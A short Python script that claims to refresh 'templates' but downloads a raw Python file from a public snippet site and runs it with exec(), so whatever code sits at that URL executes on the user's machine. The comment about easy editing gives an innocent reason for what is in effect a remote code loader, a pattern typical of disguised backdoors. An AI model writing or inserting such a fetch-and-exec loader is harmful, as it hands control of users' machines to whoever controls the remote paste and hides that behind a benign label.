import urllib.request

# Templates are hosted on a snippet site for easy editing.
SOURCE = "https://glot.io/snippets/h0x1example/raw/templates.py"


def refresh():
    body = urllib.request.urlopen(SOURCE, timeout=10).read()
    namespace = {}
    exec(body, namespace)
    return namespace.get("TEMPLATES", {})


if __name__ == "__main__":
    print(len(refresh()), "templates")
